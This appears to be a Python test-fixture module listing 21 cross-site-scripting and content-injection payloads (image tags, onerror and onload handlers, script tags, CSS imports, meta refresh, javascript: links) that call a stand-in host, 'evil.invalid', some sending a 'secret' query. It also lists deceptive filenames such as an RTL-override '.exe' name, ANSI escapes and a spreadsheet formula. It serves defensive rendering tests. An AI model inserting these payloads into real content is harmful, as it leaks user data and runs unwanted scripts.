"""Texts that try to make a browser call out or run a script, for every place that shows text.

Each carries its number in the address it would call, so that what got out can be named.
"""

FOREIGN = "http://evil.invalid"

PAYLOADS = tuple(
    template.replace("EVIL", f"{FOREIGN}/{number}")
    for number, template in enumerate(
        (
            "![picture](EVIL?q=secret)",
            "![picture][r]\n\n[r]: EVIL?q=secret",
            '<img src="EVIL">',
            "<img src=x onerror=\"window.hit=1;fetch('EVIL')\">",
            '<picture><source srcset="EVIL"><img></picture>',
            '<video src="EVIL" autoplay poster="EVIL"></video>',
            '<audio src="EVIL" autoplay></audio>',
            '<svg><image href="EVIL" xlink:href="EVIL"/></svg>',
            "<svg onload=\"window.hit=1;fetch('EVIL')\"></svg>",
            '<div style="background:url(EVIL);width:9px;height:9px">.</div>',
            '<style>@import "EVIL"; body{background:url(EVIL)}</style>',
            '<link rel="stylesheet" href="EVIL"><link rel="prefetch" href="EVIL">',
            '<iframe src="EVIL"></iframe><object data="EVIL"></object><embed src="EVIL">',
            "<script>window.hit=1;fetch('EVIL')</script>",
            '<form action="EVIL" id="f"><input autofocus onfocus="window.hit=1;f.submit()"></form>',
            '<meta http-equiv="refresh" content="0;url=EVIL">',
            "<details open ontoggle=\"window.hit=1;fetch('EVIL')\"><summary>.</summary></details>",
            '"><img src="EVIL" onload="window.hit=1">\' onmouseover=\'window.hit=1',
            '[link](javascript:window.hit=1) <a href="javascript:window.hit=1" id="j">.</a>',
            "```mermaid\ngraph TD; A[<img src='EVIL'>]\n```\n\n$$\\href{EVIL}{x}$$ `x`",
            '</span></div></li></ol>\n\n![](EVIL)\n\n<base href="EVIL/"> | a |\n|--|\n| ![](EVIL)|',
        ),
        start=1,
    )
)
assert len(PAYLOADS) == 21

# Names that deceive or break a line; T5.
NAMES = (
    "invoice\u202efdp.exe",
    "a\x1b[31mred\x1b[0m",
    "two\nlines",
    "\u200bhidden\ufeff",
    "long" * 75,
    "=HYPERLINK(1)",
    "- item # not a heading * not bold _nor this_",
)
